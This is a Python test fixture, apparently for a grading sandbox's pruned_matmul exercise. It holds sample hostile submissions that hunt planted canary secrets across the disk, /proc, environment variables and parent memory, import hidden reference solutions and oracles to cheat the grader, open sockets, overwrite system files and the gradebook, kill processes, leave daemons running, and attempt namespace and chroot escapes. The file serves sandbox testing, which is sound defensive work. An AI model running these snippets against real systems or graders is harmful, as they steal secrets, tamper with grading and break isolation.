"""Attacks on what a submission must not see or reach. Each prints and raises what it finds.

The tests plant texts that begin with `CANARY-` in every place where a secret would lie.
"""

SEARCH = """
import os, re, sys, glob

def canaries(text):
    return re.findall("CANARY-[0-9a-f]+", text if isinstance(text, str) else bytes(text).decode("latin-1"))

def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(2**20)
    except (OSError, ValueError):
        return b""

def show(found):
    print("found", found)
    sys.stdout.flush()
    os.write(2, repr(found).encode())
    raise ValueError(f"found {found}")
"""


def seek(code: str) -> tuple[str, str]:
    """An attack whose kernel runs `code`, which fills the list `found`."""
    body = "\n".join("    " + line for line in code.strip().splitlines())
    return f"def pruned_matmul(A, B):\n    found = []\n{body}\n    show(found)\n", SEARCH


SECRETS = {
    "walks the disk": seek("""
system = {"/" + name for name in "bin boot dev etc lib lib32 lib64 libx32 proc run sbin sys usr".split()}
for top in {*glob.glob("/*"), "/dev/shm", os.getcwd()} - system:
    for folder, _, files in os.walk(top):
        if "/site-packages" in folder or "/lib/python" in folder:
            continue
        for file in files[:500]:
            found += canaries(file) + canaries(read(os.path.join(folder, file)))
"""),
    "reads the planted places": seek("""
for path in open("/proc/self/mountinfo").read().split() + sys.path + ["/tmp", "..", "../..", "/proc/1/root"]:
    for name in ("gradebook.db", "tests/hidden/oracles.py", "tests/hidden/test_pruned_matmul.py", "submitted"):
        found += canaries(read(os.path.join(path, name)))
"""),
    "reads the environment": seek("""
found += canaries(repr(dict(os.environ)))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ"):
    found += canaries(read(path))
"""),
    "reads /proc": seek("""
for path in glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/fd/*") + glob.glob("/proc/*/cwd/*"):
    found += canaries(path) + canaries(read(path))
for path in glob.glob("/proc/[0-9]*/root"):
    for name in ("gradebook.db", "tmp"):
        found += canaries(read(os.path.join(path, name)))
found = [each for each in found if each.startswith("CANARY")]
"""),
    "reads its parent's memory": seek("""
for pid in {os.getppid(), 1, os.getpgrp()} - {os.getpid()}:
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
        for line in maps:
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" in line and high - low < 2**24:
                memory.seek(low)
                found += canaries(memory.read(high - low))
    except OSError:
        pass
"""),
    "imports the reference by every path": ("""
def pruned_matmul(A, B):
    import importlib, importlib.util, pkgutil, sys, glob, os
    names = ["tinytorch.core.kernels", "kernels", "kernels_dev", "solution", "core.kernels", "yardsticks", "oracles",
             "tests.hidden.oracles", "tests.hidden.yardsticks", "tinytorch.grading.judge", "tinytorch.bench"]
    modules = []
    for name in names:
        try:
            modules.append(importlib.import_module(name))
        except Exception:
            pass
    paths = sys.path + [os.getcwd(), "/stage", "/", "..", os.path.dirname(os.__file__)]
    for path in paths:
        for pattern in ("*kernels*", "tinytorch/core/*kernels*", "tinytorch/core/__pycache__/*kernels*",
                        "*/tinytorch/core/kernels.py", "tests/hidden/*.py", "*.ipynb"):
            for file in glob.glob(os.path.join(path, pattern)):
                try:
                    spec = importlib.util.spec_from_file_location("stolen", file)
                    module = importlib.util.module_from_spec(spec)
                    spec.loader.exec_module(module)
                    modules.append(module)
                except Exception:
                    pass
    for module in modules + list(sys.modules.values()):
        stolen = getattr(module, "pruned_matmul", None) or getattr(module, "matmul_ijk", None)
        if stolen is not None and getattr(stolen, "__code__", None) is not pruned_matmul.__code__:
            return stolen(A, B)
    raise LookupError("nothing to steal")
""", ""),
    "looks for other kernels in memory": ("""
def pruned_matmul(A, B):
    import gc, types
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing.__name__ in ("pruned_matmul", "matmul_ijk"):
            if thing is not pruned_matmul:
                return thing(A, B)
    raise LookupError("nothing to steal")
""", ""),
    "connects to a server": ("""
def pruned_matmul(A, B):
    import socket
    for family, address in PLACES:
        try:
            with socket.socket(family) as link:
                link.settimeout(0.3)
                link.connect(address)
                link.sendall(b"hello from inside")
        except OSError:
            pass
    raise LookupError("nobody answers")
""", """
import socket
PORT = @PORT@
PLACES = [(socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET, ("10.0.2.2", PORT)),
          (socket.AF_UNIX, "@SOCKET@"), (socket.AF_UNIX, "\\0canary")]
"""),
    "writes outside": ("""
def pruned_matmul(A, B):
    import glob, os
    for path in ["@FOLDER@/harmed", "/harmed", "/etc/harmed", "/usr/harmed", "/stage/harmed", "../harmed",
                 "/proc/1/root/harmed", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches",
                 os.path.dirname(os.__file__) + "/harmed.py"]:
        try:
            with open(path, "a") as file:
                file.write("harmed")
        except OSError:
            pass
    for path in ("@FOLDER@/planted", "@FOLDER@/gradebook.db"):
        for harm in (os.remove, lambda path: os.truncate(path, 0), lambda path: os.chmod(path, 0o777)):
            try:
                harm(path)
            except OSError:
                pass
    raise LookupError("done")
""", ""),
    "signals to everybody": ("""
def pruned_matmul(A, B):
    import os, signal
    if os.readlink("/proc/self/ns/pid") == "@NAMESPACE@":
        return show(["CANARY: no namespace of its own"])
    for pid in [os.getppid(), 1, -1, 0, @PID@]:
        for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    os.killpg(os.getpgrp(), signal.SIGKILL)
""", SEARCH),
    "daemon that outlives": ("""
def pruned_matmul(A, B):
    import os, subprocess, sys
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600) # @MARK@"])
        os._exit(0)
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600) # @MARK@"], start_new_session=True)
    raise LookupError("left something behind")
""", ""),
    "mounts and namespaces": ("""
def pruned_matmul(A, B):
    import ctypes, os
    libc = ctypes.CDLL(None)
    libc.unshare(0x10000000 | 0x00020000)
    libc.mount(b"none", b"/", None, 0x44000, None)
    libc.mount(b"/proc/1/root", b"/tmp", None, 4096, None)
    libc.ptrace(16, os.getppid(), 0, 0)
    libc.chroot(b"/proc/1/root")
    libc.umount2(b"/stage", 2)
    found = [name for name in ("usr", "root", "home") if os.path.exists(f"/tmp/{name}")]
    raise LookupError(f"reached {found}")
""", ""),
}  # fmt: skip
